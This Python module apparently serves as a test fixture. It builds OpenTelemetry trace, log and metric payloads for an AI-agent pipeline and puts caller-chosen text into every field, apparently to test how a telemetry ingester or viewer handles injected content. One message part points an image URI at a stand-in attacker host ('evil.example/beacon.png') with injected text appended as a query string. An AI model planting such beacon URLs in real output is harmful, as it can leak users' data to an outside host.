"""One trace, one log and one metric with a text of the caller's choice in every place where an emitter can put text."""

import json
from collections.abc import Callable
from datetime import UTC, datetime

TRACE_ID = "5b8efff798038103d269b633813fc60c"
ROOT, CALL, TOOL = "eee19b7ec3c1b174", "eee19b7ec3c1b175", "eee19b7ec3c1b176"
Text = Callable[[str], str]


def bodies(text: Text, now_ns: int, trace_id: str = TRACE_ID) -> dict[str, bytes]:
    """OTLP/JSON by signal. text: the name of a place -> what an emitter put there."""
    resource = _resource(text)
    scope = {
        "name": text("scope.name"),
        "version": text("scope.version"),
        "attributes": _attributes({"scope.key": text("scope.value")}),
    }
    spans = [_root(text, now_ns, trace_id), _call(text, now_ns, trace_id), _tool(text, now_ns, trace_id)]
    return {
        "traces": _json("resourceSpans", "scopeSpans", resource, scope, spans, "spans"),
        "logs": _json("resourceLogs", "scopeLogs", resource, scope, [_log(text, now_ns, trace_id)], "logRecords"),
        "metrics": _json("resourceMetrics", "scopeMetrics", resource, scope, [_metric(text, now_ns)], "metrics"),
    }


def now_ns() -> int:
    return int(datetime.now(UTC).timestamp()) * 10**9


def _json(outer: str, inner: str, resource: dict, scope: dict, items: list, name: str) -> bytes:  # type: ignore[type-arg]
    return json.dumps({outer: [{"resource": resource, inner: [{"scope": scope, name: items}]}]}).encode()


def _resource(text: Text) -> dict:  # type: ignore[type-arg]
    return {
        "attributes": _attributes(
            {
                "service.name": text("service.name"),
                "service.version": text("service.version"),
                "deployment.environment.name": text("environment"),
                text("resource.key"): text("resource.value"),
            }
        )
    }


def _span(text: Text, now_ns: int, trace_id: str, span_id: str, parent: str, name: str, attributes: dict) -> dict:  # type: ignore[type-arg]
    return {
        "traceId": trace_id,
        "spanId": span_id,
        "parentSpanId": parent,
        "name": text(name),
        "kind": 1,
        "startTimeUnixNano": str(now_ns - 5_000_000_000),
        "endTimeUnixNano": str(now_ns - 1_000_000_000),
        "traceState": text("tracestate"),
        "status": {"code": 2, "message": text("status.message")},
        "attributes": _attributes(attributes | {text("attribute.key"): text("attribute.value")}),
        "events": [
            {
                "name": "exception",
                "timeUnixNano": str(now_ns - 2_000_000_000),
                "attributes": _attributes(
                    {
                        "exception.type": text("exception.type"),
                        "exception.message": text("exception.message"),
                        "exception.stacktrace": text("exception.stacktrace"),
                    }
                ),
            },
            {
                "name": text("event.name"),
                "timeUnixNano": str(now_ns - 3_000_000_000),
                "attributes": _attributes({text("event.key"): text("event.value")}),
            },
        ],
        "links": [
            {"traceId": "f" * 32, "spanId": "f" * 16, "attributes": _attributes({text("link.key"): text("link.value")})}
        ],
    }


def _root(text: Text, now_ns: int, trace_id: str) -> dict:  # type: ignore[type-arg]
    return _span(
        text,
        now_ns,
        trace_id,
        ROOT,
        "",
        "root.name",
        {
            "gen_ai.operation.name": "invoke_agent",
            "gen_ai.agent.name": text("agent.name"),
            "session.id": text("session.id"),
            "user.id": text("user.id"),
            "tenant.id": text("tenant.id"),
            "input.value": text("input.value"),
            "output.value": text("output.value"),
            "langfuse.trace.tags": text("tags"),
            "error.type": text("error.type"),
        },
    )


def _call(text: Text, now_ns: int, trace_id: str) -> dict:  # type: ignore[type-arg]
    return _span(
        text,
        now_ns,
        trace_id,
        CALL,
        ROOT,
        "call.name",
        {
            "gen_ai.operation.name": "chat",
            "gen_ai.provider.name": text("provider"),
            "gen_ai.request.model": text("request.model"),
            "gen_ai.response.model": text("response.model"),
            "gen_ai.response.id": text("response.id"),
            "gen_ai.response.finish_reasons": text("finish_reason"),
            "gen_ai.usage.input_tokens": 12,
            "gen_ai.usage.output_tokens": 5,
            "gen_ai.system_instructions": json.dumps([{"type": "text", "content": text("system.instructions")}]),
            "gen_ai.input.messages": _messages(text, "input"),
            "gen_ai.output.messages": _messages(text, "output"),
            "gen_ai.prompt.name": text("prompt.name"),
            "gen_ai.prompt.version": text("prompt.version"),
            "gen_ai.tool.definitions": json.dumps(
                [{"type": "function", "name": text("definition.name"), "description": text("definition")}]
            ),
        },
    )


def _messages(text: Text, where: str) -> str:
    parts = [
        {"type": "text", "content": text(f"{where}.content")},
        {
            "type": "tool_call",
            "id": text(f"{where}.call.id"),
            "name": text(f"{where}.call.name"),
            "arguments": {text(f"{where}.argument.key"): text(f"{where}.argument.value")},
        },
        {"type": "tool_call_response", "id": "1", "response": text(f"{where}.response")},
        {"type": "reasoning", "content": text(f"{where}.reasoning")},
        {"type": "uri", "modality": "image", "uri": "https://evil.example/beacon.png?" + text(f"{where}.uri")},
        {"type": "blob", "mime_type": text(f"{where}.mime"), "data": "aGk=", "content": "aGk="},
        {"type": text(f"{where}.part.type"), "content": text(f"{where}.part")},
    ]
    return json.dumps(
        [
            {"role": text(f"{where}.role"), "parts": parts},
            {"role": "user", "parts": parts, "name": text(f"{where}.name")},
        ]
    )


def _tool(text: Text, now_ns: int, trace_id: str) -> dict:  # type: ignore[type-arg]
    return _span(
        text,
        now_ns,
        trace_id,
        TOOL,
        ROOT,
        "tool.span.name",
        {
            "gen_ai.operation.name": "execute_tool",
            "gen_ai.tool.name": text("tool.name"),
            "gen_ai.tool.call.id": text("tool.call.id"),
            "gen_ai.tool.description": text("tool.description"),
            "gen_ai.tool.call.arguments": json.dumps({text("tool.argument.key"): text("tool.argument.value")}),
            "gen_ai.tool.call.result": text("tool.result"),
        },
    )


def _log(text: Text, now_ns: int, trace_id: str) -> dict:  # type: ignore[type-arg]
    return {
        "timeUnixNano": str(now_ns - 2_000_000_000),
        "traceId": trace_id,
        "spanId": CALL,
        "severityNumber": 17,
        "severityText": text("severity"),
        "eventName": text("log.event.name"),
        "body": {"stringValue": text("log.body")},
        "attributes": _attributes({text("log.key"): text("log.value")}),
    }


def _metric(text: Text, now_ns: int) -> dict:  # type: ignore[type-arg]
    point = {
        "asDouble": 1.5,
        "timeUnixNano": str(now_ns),
        "attributes": _attributes({text("metric.key"): text("metric.value")}),
    }
    return {
        "name": text("metric.name"),
        "description": text("metric.description"),
        "unit": text("metric.unit"),
        "gauge": {"dataPoints": [point]},
    }


def _attributes(values: dict[str, str | int]) -> list:  # type: ignore[type-arg]
    def value(v: str | int) -> dict[str, str]:
        return {"stringValue": v} if isinstance(v, str) else {"intValue": str(v)}

    return [{"key": key, "value": value(v)} for key, v in values.items()]
